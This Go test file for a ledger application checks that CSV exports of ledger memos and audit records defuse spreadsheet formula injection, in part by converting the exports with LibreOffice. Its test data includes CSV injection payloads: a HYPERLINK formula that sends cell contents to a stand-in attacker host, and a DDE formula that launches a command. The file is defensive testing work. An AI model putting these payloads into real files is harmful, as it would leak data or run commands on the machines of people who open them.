package ledger_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"fundus/audit"
	"fundus/commit"
	"fundus/internal/safecsv"
	"fundus/internal/testtool"
	"fundus/ledger/ledgertest"

	"github.com/shopspring/decimal"

	"fundus/db"
	"fundus/db/dbtest"
	"fundus/ledger"
)

// hostile are texts a spreadsheet would run as formulas.
var hostile = []string{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, "+1", "@SUM(1+1)", "-2+3", "=1+2", "=cmd|' /C calc'!A0"}

// formulaStart reports whether a cell would start a formula.
func formulaStart(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }

// checkCSV parses a CSV as a spreadsheet would read it and checks that no
// text cell starts a formula and every cell of the number columns is a
// plain number. It returns the rows (without the header).
func checkCSV(t *testing.T, b []byte, numbers ...string) (header []string, rows [][]string) {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header = all[0]
	for _, row := range all[1:] {
		for i, cell := range row {
			if isNumberColumn(header[i], numbers) {
				if _, err := decimal.NewFromString(cell); cell != "" && err != nil {
					t.Errorf("%s %q is not a number", header[i], cell)
				}
			} else if formulaStart(cell) {
				t.Errorf("%s %q starts a formula", header[i], cell)
			}
		}
	}
	return header, all[1:]
}

func isNumberColumn(name string, numbers []string) bool {
	for _, n := range numbers {
		if n == name {
			return true
		}
	}
	return false
}

func TestCSVDefusesTextCellsOnly(t *testing.T) {
	var b bytes.Buffer
	w, err := safecsv.New(&b, []string{"memo", "amount"}, "amount")
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range append(hostile, "\tx", "\rx", "plain", "", "-12.50") {
		w.Write([]string{h, "-12.50"})
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	_, rows := checkCSV(t, b.Bytes(), "amount")
	for i, h := range append(hostile, "\tx", "\rx") {
		if rows[i][0] != "'"+h || rows[i][1] != "-12.50" {
			t.Errorf("row %d: %q, want %q and the amount as it is", i, rows[i], "'"+h)
		}
	}
	if rows[len(rows)-3][0] != "plain" || rows[len(rows)-2][0] != "" {
		t.Errorf("harmless cells changed: %q", rows)
	}
}

// TestCSVExportsOpenSafely writes hostile memos into the ledger and hostile
// texts into the audit trail, exports both as CSV and opens them as a
// spreadsheet would: every text cell is defused, every amount is a number
// and debits equal credits. Where LibreOffice is installed it converts the
// files to xlsx, and no cell may be a formula.
func TestCSVExportsOpenSafely(t *testing.T) {
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		s := ledgertest.Service(t, d)
		ctx := context.Background()
		ledgertest.PostBank(t, s.Writer, "", "opening", ledger.Bank, "1000.00", ledger.OpeningBalance, "-1000.00")
		for _, h := range hostile {
			ledgertest.PostBank(t, s.Writer, "", h, ledger.BankFees, "12.50", ledger.Bank, "-12.50")
		}
		if _, err := commit.Do(ctx, s.Writer, func(tx *commit.Tx) (any, error) {
			return nil, audit.Add(tx, hostile[0], hostile[1], hostile[2], hostile[3], map[string]string{"x": hostile[4]})
		}); err != nil {
			t.Fatal(err)
		}

		var ledgerCSV bytes.Buffer
		if err := ledger.ExportDB(ctx, d, &ledgerCSV, ledger.FormatCSV, "", ""); err != nil {
			t.Fatal(err)
		}
		_, rows := checkCSV(t, ledgerCSV.Bytes(), "seq", "debit", "credit")
		memos := map[string]bool{}
		var debit, credit decimal.Decimal
		for _, r := range rows {
			memos[r[5]] = true // entry_id, seq, time, date, kind, memo, account, debit, credit, ...
			debit, credit = debit.Add(decimalOr0(r[7])), credit.Add(decimalOr0(r[8]))
		}
		for _, h := range hostile {
			if !memos["'"+h] {
				t.Errorf("memo %q is not in the export as '%s", h, h)
			}
		}
		if !debit.Equal(credit) || !debit.Equal(decimal.RequireFromString("1075.00")) {
			t.Errorf("debits %s, credits %s, want 1075.00 each", debit, credit)
		}

		var auditCSV bytes.Buffer
		if err := (&audit.Service{DB: s.DB}).ExportCSV(ctx, auditor, &auditCSV, audit.Filter{}); err != nil {
			t.Fatal(err)
		}
		_, rows = checkCSV(t, auditCSV.Bytes())
		if last := rows[len(rows)-1]; last[2] != "'"+hostile[0] || last[3] != "'"+hostile[1] || last[4] != "'"+hostile[2] || last[5] != "'"+hostile[3] {
			t.Errorf("audit row %q", last)
		}

		if d.Engine == db.SQLite { // the files are the same on both engines; one spreadsheet run is enough
			cells := openInSpreadsheet(t, ledgerCSV.Bytes())
			var sum decimal.Decimal
			for _, c := range cells {
				if c.Col == "H" || c.Col == "I" { // debit, credit
					if c.Row > 1 && c.V != "" {
						if c.T != "" && c.T != "n" {
							t.Errorf("%s%d %q is %q, not a number", c.Col, c.Row, c.V, c.T)
						}
						v := decimal.RequireFromString(c.V)
						if c.Col == "I" {
							v = v.Neg()
						}
						sum = sum.Add(v)
					}
				}
			}
			if !sum.IsZero() {
				t.Errorf("in the spreadsheet, debits minus credits are %s", sum)
			}
			openInSpreadsheet(t, auditCSV.Bytes())
		}
	})
}

func decimalOr0(s string) decimal.Decimal {
	if s == "" {
		return decimal.Zero
	}
	return decimal.RequireFromString(s)
}

// TestSpreadsheetCheckFindsFormulas shows that openInSpreadsheet would find
// a formula: the same cells without the defusing quote are formulas.
func TestSpreadsheetCheckFindsFormulas(t *testing.T) {
	testtool.Require(t, "soffice", "libreoffice-calc-nogui")
	cells := convertToXLSX(t, []byte("memo,amount\n\"=1+2\",-12.50\n"))
	var formulas, numbers int
	for _, c := range cells {
		if c.F != "" {
			formulas++
		}
		if c.Col == "B" && c.Row == 2 && c.V == "-12.5" {
			numbers++
		}
	}
	if formulas != 1 || numbers != 1 {
		t.Fatalf("%d formulas, %d numbers (-12.5) in %+v; want 1 and 1", formulas, numbers, cells)
	}
}

// xlsxCell is one cell of an xlsx sheet.
type xlsxCell struct {
	Col string
	Row int
	T   string // type: "" or "n" number, "s" shared string, "str" a formula's text
	F   string // formula
	V   string // value
}

// openInSpreadsheet converts a CSV file with LibreOffice (comma, double
// quotes, UTF-8) and fails on any cell that became a formula.
func openInSpreadsheet(t *testing.T, b []byte) []xlsxCell {
	t.Helper()
	testtool.Require(t, "soffice", "libreoffice-calc-nogui")
	cells := convertToXLSX(t, b)
	for _, c := range cells {
		if c.F != "" {
			t.Errorf("cell %s%d is the formula %q", c.Col, c.Row, c.F)
		}
	}
	return cells
}

func convertToXLSX(t *testing.T, b []byte) []xlsxCell {
	t.Helper()
	dir := t.TempDir()
	in := filepath.Join(dir, "export.csv")
	if err := os.WriteFile(in, b, 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("soffice", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless",
		"--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", dir, in)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	z, err := zip.OpenReader(filepath.Join(dir, "export.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	f, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var sheet struct {
		Rows []struct {
			Cells []struct {
				R string `xml:"r,attr"`
				T string `xml:"t,attr"`
				F string `xml:"f"`
				V string `xml:"v"`
			} `xml:"c"`
		} `xml:"sheetData>row"`
	}
	data, _ := io.ReadAll(f)
	if err := xml.Unmarshal(data, &sheet); err != nil {
		t.Fatal(err)
	}
	var out []xlsxCell
	for _, r := range sheet.Rows {
		for _, c := range r.Cells {
			col := strings.TrimRight(c.R, "0123456789")
			var row int
			for _, d := range c.R[len(col):] {
				row = row*10 + int(d-'0')
			}
			out = append(out, xlsxCell{Col: col, Row: row, T: c.T, F: c.F, V: c.V})
		}
	}
	return out
}
